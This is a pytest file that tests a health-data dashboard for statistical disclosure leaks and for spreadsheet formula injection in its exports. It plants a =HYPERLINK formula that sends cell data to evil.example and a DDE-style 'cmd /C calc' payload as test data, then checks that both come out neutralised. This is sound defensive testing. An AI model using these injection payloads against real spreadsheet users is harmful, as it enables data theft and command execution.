"""Adversarial disclosure test: try, as a viewer or analyst would, to get small numbers back.

Walks every page callback, every download route, every command-line export and every pack sheet over
two datasets -- the small demo and a tiny tricky one (the known-answer data, with formula-like
names in the loaded extracts) -- and compares every figure shown with the exact stored counts.
It fails on (counts of how many are listed in the message):

* ``small``: a count of people or events from 1 to 7 shown at any level (every level here is below
  England, BSol included);
* ``unrounded``: a shown count that is not a multiple of 5;
* ``inverted``: a value from which a suppressed or rounded count can be worked out exactly -- value x
  denominator, per-person value x people, rate x person-years, the Wilson, exact-Poisson/Byar and
  Dobson limits (each candidate count consistent with the shown figures at their shown precision;
  a leak is one consistent candidate, equal to the exact count, different from the shown one);
* ``exact-value``: a number sent to the browser or written to a file (at 9+ significant digits)
  equal to a value computed from exact counts that were rounded or hidden;
* ``differenced``: a set of cells adding up to a shown total (breakdown groups of an area; the
  areas of one parent; months of a quarter, quarters of a year for event counts) with exactly one
  hidden cell, which subtraction gives back;
* ``contradiction``: a numerator shown as 0 beside a non-zero value; ``hidden-derived``: a value
  shown where its count is hidden.

And: no file the app produces holds a live formula (every XLSX read back with openpyxl, every
CSV cell checked as a spreadsheet would read it); exact exports only for data managers, audited.
One database per dataset, shared by the module (the demo is built once: about a minute).
"""

from __future__ import annotations

import csv
import io
import json
import math
import re
from collections import Counter
from collections.abc import Iterator
from dataclasses import dataclass, field
from datetime import date
from pathlib import Path
from typing import Any

import numpy as np
import pandas as pd
import pytest
from openpyxl import load_workbook
from plotly.utils import PlotlyJSONEncoder
from scipy import stats as st

from metrics.catalogue import INDICATORS, INDICATORS_BY_ID
from tests.conftest import app_on

KEY = ["indicator_id", "period_type", "period", "geography_level", "geography", "breakdown", "group"]
FORMULA = ("=", "+", "-", "@", "\t", "\r")
INJECTED = {
    "neighbourhood_name": '=HYPERLINK("http://evil.example/?x="&A1,"East One")',
    "practice_name": "  @SUM(1+1)*cmd|' /C calc'!A0",
    "int_team_name": "+East INT",
}
Z = 1.959963984540054
SIG = 9  # significant digits for exact-value matching
# Indicators whose numerator counts events (rows or a sum): their months add up to the quarter.
EVENT_COUNTS = {i.id for i in INDICATORS if type(i.numerator).__name__ == "Events"
                and getattr(i.numerator, "count", "") in ("rows", "sum") and not getattr(i.numerator, "snapshot", False)
                and getattr(i.numerator, "until", None) is None and i.aggregation in ("ratio", "rate", "dsr", "count")}


# --------------------------------------------------------------------------- datasets
@dataclass
class World:
    name: str
    url: str
    data_dir: Path
    app: Any
    exact: pd.DataFrame
    prepost_exact: dict[tuple[str, int], pd.DataFrame]
    tree: pd.DataFrame
    findings: dict[str, Counter] = field(default_factory=dict)


def _build_tricky(url: str) -> None:
    from data_loaders.db import write_transaction
    from data_loaders.load import load_frames
    from metrics.pipeline import refresh_all, set_dataset_info
    from tests.kat_data import DATA_END, frames

    data = frames()
    data["practice"].loc[data["practice"].practice_code == "Y90001", "neighbourhood_name"] = \
        INJECTED["neighbourhood_name"]
    data["practice"].loc[data["practice"].practice_code == "Y90002", "practice_name"] = INJECTED["practice_name"]
    data["int_team"]["int_team_name"] = INJECTED["int_team_name"]
    with write_transaction(url) as conn:
        load_frames(conn, data)
        set_dataset_info(conn, {"data_end": DATA_END.isoformat(), "is_demo": "false", "data_start": "2023-04-01"})
        refresh_all(conn)


@pytest.fixture(scope="module", params=["demo", "tricky"])
def world(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> Iterator[World]:
    from data_loaders.db import read_engine
    from metrics import prepost
    from metrics.quality import geography_tree
    from metrics.results import read_results

    data_dir = tmp_path_factory.mktemp(f"adversary-{request.param}")
    url = f"duckdb:///{data_dir / 'bsol.duckdb'}"
    if request.param == "demo":
        from metrics.pipeline import build_demo

        build_demo(url, "small", end=date(2025, 3, 31))
    else:
        _build_tricky(url)
    with read_engine(url).connect() as conn:
        exact = read_results(conn)
        tree = geography_tree(conn)
        pp = {(c, w): prepost.read_prepost(conn, c, w) for c in prepost.COHORT_PRESETS for w in (6,)}
    with app_on(data_dir) as app_module:
        yield World(request.param, url, data_dir, app_module, _with_facts(exact), pp, tree)


def _with_facts(frame: pd.DataFrame) -> pd.DataFrame:
    out = frame.copy()
    ids = out["indicator_id"]
    out["multiplier"] = ids.map({i.id: i.multiplier for i in INDICATORS})
    out["aggregation"] = ids.map({i.id: i.aggregation for i in INDICATORS})
    out["ci"] = ids.map({i.id: i.ci for i in INDICATORS})
    out["num_disclosive"] = ids.map({i.id: i.numerator_disclosive for i in INDICATORS})
    out["den_disclosive"] = ids.map({i.id: i.denominator_disclosive for i in INDICATORS})
    return out


# --------------------------------------------------------------------------- the adversary
def _decimals(x: np.ndarray) -> np.ndarray:
    """Shown precision of each number: the fewest decimals (<= 12) that reproduce it."""
    out = np.full(x.shape, 13, dtype=int)
    for k in range(12, -1, -1):
        with np.errstate(invalid="ignore"):
            same = np.isclose(np.round(x, k), x, rtol=0, atol=1e-12 * np.maximum(1, np.abs(x)))
        out = np.where(same, k, out)
    return out


def _tol(x: np.ndarray) -> np.ndarray:
    d = _decimals(x)
    return np.where(d >= 13, 1e-9 * np.maximum(1.0, np.abs(x)), 0.5 * 10.0 ** (-d.astype(float)) + 1e-12)


def _byar(n: np.ndarray) -> tuple[np.ndarray, np.ndarray]:
    n = np.asarray(n, dtype=float)
    with np.errstate(invalid="ignore", divide="ignore"):
        ex_lo = np.where(n > 0, st.chi2.ppf(0.025, 2 * np.maximum(n, 1e-300)) / 2, 0.0)
        ex_hi = st.chi2.ppf(0.975, 2 * n + 2) / 2
        b = np.maximum(n, 10.0)
        by_lo = b * (1 - 1 / (9 * b) - Z / (3 * np.sqrt(b))) ** 3
        by_hi = (b + 1) * (1 - 1 / (9 * (b + 1)) + Z / (3 * np.sqrt(b + 1))) ** 3
    return np.where(n < 10, ex_lo, by_lo), np.where(n < 10, ex_hi, by_hi)


def _wilson(n: np.ndarray, d: np.ndarray) -> tuple[np.ndarray, np.ndarray]:
    with np.errstate(invalid="ignore", divide="ignore"):
        p = n / d
        centre = (2 * n + Z * Z) / (2 * (d + Z * Z))
        half = Z * np.sqrt(Z * Z + 4 * n * (1 - p)) / (2 * (d + Z * Z))
    return np.where(n == 0, 0.0, centre - half), np.where(n == d, 1.0, centre + half)


def _close(shown: np.ndarray, pred: np.ndarray) -> np.ndarray:
    """Shown figure consistent with a prediction (NaN shown: no information, so consistent)."""
    with np.errstate(invalid="ignore"):
        return np.isnan(shown) | (np.abs(shown - pred) <= _tol(shown))


def audit_results(shown: pd.DataFrame, exact: pd.DataFrame, keys: list[str]) -> Counter:
    """Every check on result rows (shown: numerator, denominator, value, lower_ci, upper_ci + keys)."""
    found: Counter = Counter()
    m = shown.merge(exact, on=keys, how="inner", suffixes=("", "_x"))
    if m.empty:
        return found
    num, den = m["numerator"].to_numpy(float), m["denominator"].to_numpy(float)
    val, lo, hi = (m[c].to_numpy(float) for c in ("value", "lower_ci", "upper_ci"))
    en, ed, ev = m["numerator_x"].to_numpy(float), m["denominator_x"].to_numpy(float), m["value_x"].to_numpy(float)
    nd, dd = m["num_disclosive"].fillna(True).to_numpy(bool), m["den_disclosive"].fillna(True).to_numpy(bool)
    agg, ci = m["aggregation"].astype(str).to_numpy(), m["ci"].astype(str).to_numpy()
    mean = np.isin(agg, ["mean", "median"])
    count_unit = agg == "count"
    with np.errstate(invalid="ignore"):
        for arr, flag in ((num, nd & ~mean), (den, dd), (np.where(count_unit, val, np.nan), count_unit)):
            found["small"] += int((flag & (arr >= 1) & (arr <= 7)).sum())
            found["unrounded"] += int((flag & ~np.isnan(arr) & (np.mod(arr, 5) != 0)).sum())
        found["contradiction"] += int((np.isin(agg, ["ratio", "rate", "dsr", "count"]) & (num == 0)
                                       & ~np.isnan(val) & (val != 0)).sum())
        found["hidden-derived"] += int((nd & ~mean & np.isnan(num) & ~np.isnan(en) & ~np.isnan(val)).sum())
    # Inversion: candidate counts around the shown one (or 1-7 where hidden), exact-count formulas.
    target = nd & ~mean & (en > 0) & (en != num) & ~(np.isnan(val) & np.isnan(lo) & np.isnan(hi))
    with np.errstate(invalid="ignore", divide="ignore"):
        c_eff = np.where((en > 0) & (ed > 0), ev * ed / en, np.where(en > 0, ev / en, np.nan))
        mult = m["multiplier"].to_numpy(float)
    hits = np.zeros(len(m), dtype=int)
    which = np.full(len(m), np.nan)
    for k in range(7):  # shown count: it +-2 (rounding to 5); hidden count: 1..7
        cand_n = np.where(np.isnan(num), float(k + 1), num + (k - 2) if k < 5 else np.nan)
        ok_any = np.zeros(len(m), dtype=bool)
        for dd_off in range(-2, 3):
            cand_d = np.where(dd, den + dd_off, den if dd_off == 0 else np.nan)
            with np.errstate(invalid="ignore", divide="ignore"):
                v_pred = np.where(count_unit, cand_n, c_eff * cand_n / np.where(np.isnan(cand_d), 1.0, cand_d))
                wl, wu = _wilson(cand_n, cand_d)
                bl, bu = _byar(cand_n)
                lo_pred = np.where(ci == "wilson", wl * mult, np.where(ci == "byar", bl * c_eff / cand_d, np.nan))
                hi_pred = np.where(ci == "wilson", wu * mult, np.where(ci == "byar", bu * c_eff / cand_d, np.nan))
                ok = (cand_n >= 0) & ~np.isnan(cand_n)
                dsr = ci == "dobson"
                ok &= np.where(dsr, True, _close(val, v_pred))
                ok &= np.where(np.isin(ci, ["wilson", "byar"]), _close(lo, lo_pred) & _close(hi, hi_pred), True)
                # Dobson: (value - lower) / (upper - value) = (n - L(n)) / (U(n) - n) for the count used.
                r_shown = (val - lo) / (hi - val)
                r_pred = (cand_n - bl) / (bu - cand_n)
                ok &= np.where(dsr & ~np.isnan(r_shown), np.abs(r_shown - r_pred) <= 1e-6 * np.abs(r_pred)
                               + (_tol(val) + _tol(lo)) / np.maximum(hi - val, 1e-300) * 2, True)
            ok_any |= ok
        hits += ok_any
        which = np.where(ok_any, cand_n, which)
    found["inverted"] += int((target & (hits == 1) & (which == en)).sum())
    # A mean x its count of people = a whole total: a unique count consistent with it gives it back.
    mean_rows = (agg == "mean") & ~np.isnan(val) & ~np.isnan(den) & (ed != den)
    if mean_rows.any():
        hits_d = np.zeros(len(m), dtype=int)
        which_d = np.full(len(m), np.nan)
        tol = _tol(val)
        for off in range(-2, 3):
            d = den + off
            total = np.round(val * d)
            ok = (d > 0) & (np.abs(total / np.where(d > 0, d, 1) - val) <= tol)
            hits_d += ok
            which_d = np.where(ok, d, which_d)
        found["inverted"] += int((mean_rows & (hits_d == 1) & (which_d == ed)).sum())
    return found


def differencing(shown: pd.DataFrame, exact: pd.DataFrame, tree: pd.DataFrame) -> Counter:
    """Sets of cells adding up to a shown total with exactly one hidden cell (complete tables only)."""
    found: Counter = Counter()
    frame = shown.merge(exact[[*KEY, "aggregation", "numerator"]].rename(columns={"numerator": "exact_num"}),
                        on=KEY, how="inner")
    frame = frame[frame["aggregation"].isin(["ratio", "rate", "dsr", "count"])]
    frame = frame.assign(hidden=frame["numerator"].isna() & frame["exact_num"].notna())
    parent: dict[tuple[str, str], tuple[str, str]] = {}
    for r in tree.itertuples(index=False):
        parent[("practice", r.practice_code)] = ("neighbourhood", r.neighbourhood)
        parent[("neighbourhood", r.neighbourhood)] = ("locality", r.locality)
        parent[("locality", r.locality)] = ("place", r.place)
        parent[("place", r.place)] = ("bsol", "BSol")
    shown_total = frame.set_index(KEY)["hidden"]
    shown_total = shown_total[~shown_total.index.duplicated()]

    def lonely(groups: pd.core.groupby.DataFrameGroupBy, total_key: Any) -> int:
        n = 0
        for key, g in groups:
            if g["hidden"].sum() == 1 and len(g) > 1:
                tk = total_key(key, g.iloc[0])
                if tk in shown_total.index and not shown_total.loc[tk]:
                    n += 1
        return n

    bd = frame[frame.breakdown != "none"]
    found["differenced"] += lonely(
        bd.groupby(["indicator_id", "period_type", "period", "geography_level", "geography", "breakdown"]),
        lambda k, r: (k[0], k[1], k[2], k[3], k[4], "none", "All"))
    kids = frame.assign(parent=[parent.get((lv, g), ("", "")) for lv, g in zip(frame.geography_level,
                                                                               frame.geography, strict=True)])
    kids = kids[kids["parent"] != ("", "")]
    kids = kids.assign(p_level=[p[0] for p in kids["parent"]], p_geo=[p[1] for p in kids["parent"]])
    found["differenced"] += lonely(
        kids.groupby(["indicator_id", "period_type", "period", "breakdown", "group", "geography_level", "p_level",
                      "p_geo"]),
        lambda k, r: (k[0], k[1], k[2], k[6], k[7], k[3], k[4]))
    timed = frame[frame.indicator_id.isin(EVENT_COUNTS) & (frame.period_type == "month")]
    if not timed.empty:
        start = pd.to_datetime(timed["period_start"])
        fy = np.where(start.dt.month >= 4, start.dt.year, start.dt.year - 1)
        q = ((start.dt.month - 4) % 12) // 3 + 1
        labels = [f"{y}-{(y + 1) % 100:02d} Q{n}" for y, n in zip(fy, q, strict=True)]
        timed = timed.assign(quarter=labels)
        found["differenced"] += lonely(
            timed.groupby(["indicator_id", "geography_level", "geography", "breakdown", "group", "quarter"]),
            lambda k, r: (k[0], "quarter", k[5], k[1], k[2], k[3], k[4]))
    return found


def exact_values(world: World) -> set[str]:
    """Values (9 significant digits) computed from exact counts that are rounded or hidden when shown."""
    e = world.exact
    changed = e["num_disclosive"].fillna(True) & (e["numerator"] > 0) & (
        (e["numerator"] % 5 != 0) | e["numerator"].between(1, 7))
    vals = pd.concat([e.loc[changed, c] for c in ("value", "lower_ci", "upper_ci")]).dropna()
    out = {_sig(v) for v in vals if not float(v).is_integer()}
    basis = {"pre_per_person": ("pre", "people"), "post_per_person": ("post", "people"),
             "pre_rate": ("pre", "people"), "post_rate": ("post", "people"), "pct_change": ("pre", "post"),
             # the ratio of two rates over the same people: person-time cancels
             "rate_ratio": ("pre", "post"), "rate_ratio_lower": ("pre", "post"),
             "rate_ratio_upper": ("pre", "post"), "pre_person_years": ("people",),
             "post_person_years": ("people",), "case_change_pp": ("did_cases",), "did_pp": ("did_cases",)}
    for frame in world.prepost_exact.values():
        if frame.empty:
            continue
        changed = frame[["pre", "post", "people", "did_cases"]].apply(lambda s: (s % 5 != 0) | s.between(1, 7))
        for c, cols in basis.items():
            if c in frame:
                rows = changed[list(cols)].any(axis=1)
                out |= {_sig(v) for v in frame.loc[rows, c].dropna() if not float(v).is_integer()}
    return out - _legit_values(world)


def _round5(x: pd.Series) -> pd.Series:
    return np.floor(x.astype(float) / 5 + 0.5) * 5


def _legit_values(world: World) -> set[str]:
    """Values a correct output may show: each ratio value from its ROUNDED counts (the HES method).

    Why: small-integer ratios repeat across cells (10/15 in one cell is 4/6 in another), so a shown
    value equal to some cell's exact value is only a leak if rounded counts cannot explain it.
    """
    e = world.exact
    n, d, v = e["numerator"].astype(float), e["denominator"].astype(float), e["value"].astype(float)
    n_r = np.where(e["num_disclosive"].fillna(True), _round5(n), n)
    d_r = np.where(e["den_disclosive"].fillna(True), _round5(d), d)
    with np.errstate(divide="ignore", invalid="ignore"):
        v_r = np.where(n > 0, v * (n_r / n) * (d / d_r), v)
    out = {_sig(x) for x in v_r if np.isfinite(x) and not float(x).is_integer()}
    same = ((n_r == n) | n.isna()) & ((d_r == d) | d.isna())  # nothing to round: the exact figures are legit
    for c in ("value", "lower_ci", "upper_ci"):
        out |= {_sig(x) for x in e.loc[same, c].dropna() if not float(x).is_integer()}
    for frame in world.prepost_exact.values():
        if frame.empty:
            continue
        pre, post, people = (_round5(frame[c]) for c in ("pre", "post", "people"))
        with np.errstate(divide="ignore", invalid="ignore"):
            rr = (post / frame["post_person_years"]) / (pre / frame["pre_person_years"])
            for x in (pre / people, post / people, post / pre * 100 - 100, rr):
                out |= {_sig(y) for y in x if np.isfinite(y) and not float(y).is_integer()}
    return out


def _sig(v: float) -> str:
    return f"{float(v):.{SIG - 1}e}"


def _numbers(obj: Any) -> Iterator[float]:
    if isinstance(obj, bool):
        return
    if isinstance(obj, float):
        yield obj
    elif isinstance(obj, dict):
        for k, v in obj.items():
            if k != "layout":  # a figure's layout is axes and domains (1/9, 2/9 ...), not data
                yield from _numbers(v)
    elif isinstance(obj, list | tuple):
        for v in obj:
            yield from _numbers(v)


def leaked_values(numbers: Any, exact: set[str]) -> int:
    n = 0
    for x in numbers:
        if x is None or not math.isfinite(x) or float(x).is_integer():
            continue
        if len(repr(abs(x)).replace(".", "").lstrip("0")) < SIG:  # shown at lower precision: keyed checks
            continue
        n += _sig(x) in exact
    return n


def _report(where: str, found: Counter) -> None:
    bad = {k: v for k, v in found.items() if v}
    assert not bad, f"{where}: disclosure leaks {bad}"


# --------------------------------------------------------------------------- command line
def _cli(world: World, *args: str) -> Any:
    return world.app.server.test_cli_runner().invoke(args=list(args), catch_exceptions=False)


def test_cli_measures(world: World, tmp_path: Path) -> None:
    out = tmp_path / "measures.csv"
    done = _cli(world, "measures", "--out", str(out))
    assert done.exit_code == 0, done.output
    shown = pd.read_csv(out, keep_default_na=True, na_values=["[c]", "[x]"])
    assert len(shown) == len(world.exact) > 0
    found = audit_results(shown[[*KEY, "numerator", "denominator", "value", "lower_ci", "upper_ci"]].assign(
        period_start=pd.to_datetime(shown["period_start"])), world.exact, KEY)
    found.update(differencing(shown.assign(period_start=pd.to_datetime(shown["period_start"])), world.exact,
                              world.tree))
    # Keyed: a row's value or limits equal to the same row's exact ones where its count was rounded or hidden.
    m = shown.merge(world.exact, on=KEY, suffixes=("", "_x"))
    changed = m["num_disclosive"].fillna(True) & (m["numerator_x"] > 0) & (m["numerator_x"] != m["numerator"])
    for c in ("value", "lower_ci", "upper_ci"):
        same = np.isclose(m[c], m[f"{c}_x"], rtol=1e-9, atol=0) & ~m[f"{c}_x"].apply(float.is_integer)
        found["exact-value"] += int((changed & same).sum())
    _report(f"{world.name}: flask measures", found)


def _audit_prepost(shown: pd.DataFrame, exact: pd.DataFrame, window: int) -> Counter:
    found: Counter = Counter()
    m = shown.merge(exact, on=["int_team_code", "activity"], suffixes=("", "_x"))
    counts = ["people", "pre", "post", "died_in_post", "did_cases", "did_unmatched", "did_controls"]
    for c in counts:
        if c in m:
            v = pd.to_numeric(m[c], errors="coerce")
            found["small"] += int(v.between(1, 7).sum())
            found["unrounded"] += int((v.notna() & (v % 5 != 0)).sum())
    people = pd.to_numeric(m["people"], errors="coerce").to_numpy(float)
    for cnt, pp, rate, py in (("pre", "pre_per_person", "pre_rate", "pre_person_years"),
                              ("post", "post_per_person", "post_rate", "post_person_years")):
        s = pd.to_numeric(m[cnt], errors="coerce").to_numpy(float)
        e = m[f"{cnt}_x"].to_numpy(float)
        target = (e > 0) & (e != s)
        ppv = pd.to_numeric(m[pp], errors="coerce").to_numpy(float)
        hits, which = np.zeros(len(m), int), np.full(len(m), np.nan)
        for off in [*range(-2, 3)]:
            p = np.where(np.isnan(people), np.nan, people + off)
            n = np.round(ppv * p)
            ok = (p > 0) & (np.abs(ppv * p - n) <= _tol(ppv) * p) & ~np.isnan(ppv)
            hits += ok
            which = np.where(ok, n, which)
        found["inverted"] += int((target & (hits == 1) & (which == e)).sum())
        r, t = pd.to_numeric(m[rate], errors="coerce").to_numpy(float), pd.to_numeric(m[py], errors="coerce").to_numpy(float)
        with np.errstate(invalid="ignore"):
            n = r * t
            found["inverted"] += int((target & (np.abs(n - e) < 1e-6)).sum())
            # a full pre window: person-years = people x months / 12
            ep = m["people_x"].to_numpy(float)
            found["inverted"] += int(((ep != people) & (np.abs(t * 12 / window - ep) < 1e-6) & (cnt == "pre")).sum())
    if "case_change_pp" in m:
        cases = pd.to_numeric(m["did_cases"], errors="coerce").to_numpy(float)
        ec = m["did_cases_x"].to_numpy(float)
        v = pd.to_numeric(m["case_change_pp"], errors="coerce").to_numpy(float)
        hits, which = np.zeros(len(m), int), np.full(len(m), np.nan)
        for off in range(-2, 3):
            d = cases + off
            ok = (d > 0) & (np.abs(np.round(v * d) - v * d) <= _tol(v) * d) & ~np.isnan(v) & (v != 0)
            hits += ok
            which = np.where(ok, d, which)
        found["inverted"] += int(((ec != cases) & (ec > 0) & (hits == 1) & (which == ec)).sum())
    return found


def test_cli_prepost(world: World, tmp_path: Path) -> None:
    found: Counter = Counter()
    for cohort, window in world.prepost_exact:
        exact = world.prepost_exact[(cohort, window)]
        if exact.empty:
            continue
        tidy, plan = tmp_path / f"{cohort}-tidy.csv", tmp_path / f"{cohort}-plan.csv"
        for path, layout in ((tidy, "tidy"), (plan, "plan")):
            done = _cli(world, "prepost", "--out", str(path), "--cohort", cohort, "--layout", layout,
                        "--window-months", str(window))
            assert done.exit_code == 0, done.output
        found.update(_audit_prepost(pd.read_csv(tidy, na_values=["[c]"]), exact, window))
        numbers = pd.read_csv(plan, na_values=["[c]"]).iloc[:, 2:].apply(pd.to_numeric, errors="coerce").stack().dropna()
        found["small"] += int(numbers.between(1, 7).sum())
        found["unrounded"] += int((numbers % 5 != 0).sum())
    _report(f"{world.name}: flask prepost", found)


# --------------------------------------------------------------------------- download routes
def _parse(content: bytes, fmt: str) -> pd.DataFrame:
    na = {"keep_default_na": False, "na_values": ["[c]", "[x]", "[z]", ""]}  # "None" is a breakdown label
    if fmt == "csv":
        return pd.read_csv(io.BytesIO(content), encoding="utf-8-sig", **na)
    return pd.read_excel(io.BytesIO(content), **na)


def _download_keys(frame: pd.DataFrame, period_type: str) -> pd.DataFrame:
    from metrics.dimensions import BREAKDOWN_LABELS, LEVEL_LABELS

    levels = {v: k for k, v in LEVEL_LABELS.items()}
    bds = {v: k for k, v in BREAKDOWN_LABELS.items()}
    out = pd.DataFrame({
        "indicator_id": frame["Indicator id"], "period_type": period_type, "period": frame["Period"].astype(str),
        "geography_level": frame["Level"].map(lambda x: levels.get(x, x)),
        "geography": frame["Area"].astype(str).str.lstrip("'"),
        "breakdown": frame["Breakdown"].map(lambda x: bds.get(x, x)),
        "group": frame["Group"].astype(str).str.replace(r" \(.*\)$", "", regex=True),
    })
    for src, dst in (("Numerator", "numerator"), ("Denominator", "denominator"), ("Value", "value"),
                     ("Lower 95% CI", "lower_ci"), ("Upper 95% CI", "upper_ci")):
        out[dst] = pd.to_numeric(frame[src], errors="coerce")
    return out


def _queries(world: World) -> list[dict[str, str]]:
    from layouts import filters as flt

    locality = next((g for g in flt.GEOGRAPHIES if g != "BSol" and g in set(world.tree["locality"])), "East")
    return [{}, {"breakdown": "ethnicity"}, {"locality": locality}]


def test_download_routes(world: World) -> None:
    client = world.app.server.test_client()
    found: Counter = Counter()
    exact_set = exact_values(world)
    by_indicator = dict(tuple(world.exact.groupby("indicator_id")))
    for i, ind in enumerate(INDICATORS):  # every indicator; other views and the xlsx for every third
        pt = ind.frequency[0]
        for n, query in enumerate(_queries(world) if i % 3 == 0 else _queries(world)[:1]):
            for fmt in ("csv", "xlsx") if n == 0 and i % 3 == 0 else ("csv",):
                resp = client.get(f"/download/measure/{ind.id}.{fmt}", query_string={**query, "period_type": pt})
                if resp.status_code == 404:
                    continue
                assert resp.status_code == 200, (ind.id, query, resp.status_code)
                frame = _parse(resp.data, fmt)
                found.update(audit_results(_download_keys(frame, pt), by_indicator.get(ind.id, world.exact.iloc[:0]),
                                           KEY))
                found["exact-value"] += leaked_values(
                    frame.select_dtypes("number").to_numpy(float).ravel().tolist(), exact_set)
    for cohort, window in world.prepost_exact:
        exact = world.prepost_exact[(cohort, window)]
        if exact.empty:
            continue
        for fmt in ("csv", "xlsx"):
            resp = client.get(f"/download/prepost.{fmt}", query_string={"cohort": cohort, "window": str(window)})
            assert resp.status_code in (200, 404)
            if resp.status_code == 200 and fmt == "xlsx":
                for sheet in pd.read_excel(io.BytesIO(resp.data), sheet_name=None, na_values=["[c]"]).values():
                    found["exact-value"] += leaked_values(
                        sheet.select_dtypes("number").to_numpy(float).ravel().tolist(), exact_set)
                    if "people" in sheet and "int_team_code" in sheet:
                        found.update(_audit_prepost(sheet, exact, window))
    _report(f"{world.name}: download routes", found)


# --------------------------------------------------------------------------- page callbacks
def _page_outputs(world: World) -> Iterator[tuple[str, Any]]:
    from callbacks import home, measure, pages
    from layouts import filters as flt

    geos = [g for g in flt.GEOGRAPHIES if g == "BSol" or g in set(world.tree["locality"])][:3]
    for geo in geos:
        for pt in ("month", "quarter", "financial_year"):
            yield f"scorecard {geo} {pt}", home.update_scorecard(geo, pt)
        yield f"locality {geo}", pages.update_locality(geo, "quarter")
        yield f"inequalities {geo}", pages.update_inequalities(geo, "quarter")
    for n, ind in enumerate(INDICATORS):  # every indicator's page; a second view for every third one
        pt = ind.frequency[0]
        views = [("BSol", ("ethnicity", "imd_quintile")[n % 2])] + ([(geos[-1], "sex")] if n % 3 == 0 else [])
        for geo, bd in views:
            yield f"measure {ind.id} {geo} {bd}", measure.update_measure(geo, pt, "latest", bd, ind.id)
    yield "data page", pages.update_data_page("/data")
    for cohort in ("pilot", "all"):
        yield f"prepost {cohort}", pages.update_prepost("BSol", None, cohort, "6")
        yield f"profile {cohort}", pages.update_prepost_profile("BSol", None, cohort, "6")


def test_page_callbacks(world: World) -> None:
    exact_set = exact_values(world)
    found: Counter = Counter()
    walked = 0
    for where, output in _page_outputs(world):
        payload = json.loads(json.dumps(output, cls=PlotlyJSONEncoder))
        n = leaked_values(_numbers(payload), exact_set)
        if n:
            found[f"exact-value ({where.split()[0]})"] += n
        walked += 1
    assert walked > 50
    _report(f"{world.name}: page callbacks (browser JSON)", found)


# --------------------------------------------------------------------------- packs
def test_pack_sheets(world: World) -> None:
    from data_loaders.db import read_engine
    from exports import pack

    exact_set = exact_values(world)
    found: Counter = Counter()
    for place in pack.PLACES:
        with read_engine(world.url).connect() as conn:
            wb = load_workbook(io.BytesIO(pack.build_pack(conn, place, None)))
        for ws in wb.worksheets:
            found["exact-value"] += leaked_values((c.value for row in ws.iter_rows() for c in row
                                                   if isinstance(c.value, float)), exact_set)
            for table in ws.tables.values():
                cells = [[c.value for c in row] for row in ws[table.ref]]
                head = [str(h or "") for h in cells[0]]
                ids = [r[head.index("Indicator id")] for r in cells[1:]] if "Indicator id" in head else None
                for j, h in enumerate(head):
                    if re.search(r"numerator|denominator|people|patients affected|caseload\b|^count", h, re.I) \
                            and not re.search(r"year|%|share|per ", h, re.I):
                        v = pd.to_numeric(pd.Series([r[j] for r in cells[1:]]), errors="coerce")
                        if ids is not None:  # person-years, FTE, expected and published totals are not counts
                            flag = "numerator_disclosive" if h.startswith("Numerator") else "denominator_disclosive"
                            v = v.where([getattr(INDICATORS_BY_ID.get(str(i)), flag, True) for i in ids])
                        found["small"] += int(v.between(1, 7).sum())
                        found["unrounded"] += int((v.notna() & (v % 5 != 0)).sum())
    _report(f"{world.name}: packs", found)


# --------------------------------------------------------------------------- files cannot run code
def _live_formulas_xlsx(content: bytes) -> list[str]:
    wb = load_workbook(io.BytesIO(content))
    bad = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                if c.data_type == "f" or (isinstance(c.value, str) and c.value.lstrip().startswith(FORMULA)):
                    bad.append(f"{ws.title}!{c.coordinate}={c.value!r}")
    return bad


def _live_formulas_csv(content: bytes) -> list[str]:
    bad = []
    for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))):
        for cell in row:
            text = cell.lstrip()
            if text.startswith(FORMULA):
                try:
                    float(text)
                except ValueError:
                    bad.append(cell)
    return bad


def test_no_live_formula_in_any_file(world: World, tmp_path: Path) -> None:
    if world.name != "tricky":
        pytest.skip("the formula-like names are in the tricky dataset")
    from data_loaders.db import read_engine
    from exports import pack

    client = world.app.server.test_client()
    produced: dict[str, bytes] = {}
    for i, ind in enumerate(INDICATORS):  # East lists its neighbourhood (named like a formula)
        for fmt in ("csv", "xlsx") if i % 3 == 0 else ("csv",):
            r = client.get(f"/download/measure/{ind.id}.{fmt}", query_string={"locality": "East"})
            if r.status_code == 200:
                produced[f"measure {ind.id} East .{fmt}"] = r.data
    for fmt in ("csv", "xlsx"):
        r = client.get(f"/download/prepost.{fmt}", query_string={"cohort": "all"})
        if r.status_code == 200:
            produced[f"prepost.{fmt}"] = r.data
    for place in pack.PLACES:
        with read_engine(world.url).connect() as conn:
            produced[f"pack {place}.xlsx"] = pack.build_pack(conn, place, None)
    for name, args in (("measures.csv", ["measures"]), ("prepost-plan.csv", ["prepost", "--cohort", "all"]),
                       ("prepost-tidy.csv", ["prepost", "--cohort", "all", "--layout", "tidy"])):
        out = tmp_path / name
        done = _cli(world, *args, "--out", str(out))
        assert done.exit_code in (0, 1), done.output  # 1: no one eligible for that cohort (no file)
        if done.exit_code == 0:
            produced[name] = out.read_bytes()
    bad = {name: (_live_formulas_xlsx(b) if name.endswith("xlsx") else _live_formulas_csv(b))
           for name, b in produced.items()}
    bad = {k: v[:3] for k, v in bad.items() if v}
    assert not bad, f"live formulas in produced files: {bad}"
    text = " ".join(str(c.value) for name, b in produced.items() if name.endswith("xlsx")
                    for ws in load_workbook(io.BytesIO(b)).worksheets for row in ws.iter_rows() for c in row)
    text += b"".join(b for name, b in produced.items() if name.endswith("csv")).decode("utf-8", "replace")
    assert "'=HYPERLINK" in text, "the injected neighbourhood name must reach the files, neutralised"


# --------------------------------------------------------------------------- exact values: data managers only
def test_exact_exports_for_data_managers_only(world: World, monkeypatch: pytest.MonkeyPatch) -> None:
    import dataclasses

    from auth import AUDIT_URL_KEY
    from data_loaders.audit import read_audit

    ind = INDICATORS_BY_ID["m02_caseload_emergency_admissions"]
    server = world.app.server
    client = server.test_client()
    auth = server.config["BSOL_AUTH"]
    for role in ("viewer", "analyst"):
        monkeypatch.setitem(server.config, "BSOL_AUTH", dataclasses.replace(auth, default_role=role))
        assert client.get(f"/download/measure/{ind.id}.csv", query_string={"exact": "1"}).status_code == 403
    monkeypatch.setitem(server.config, "BSOL_AUTH", dataclasses.replace(auth, default_role="data_manager"))
    resp = client.get(f"/download/measure/{ind.id}.csv", query_string={"exact": "1", "period_type": "quarter"})
    assert resp.status_code == 200
    frame = _download_keys(_parse(resp.data, "csv"), "quarter")
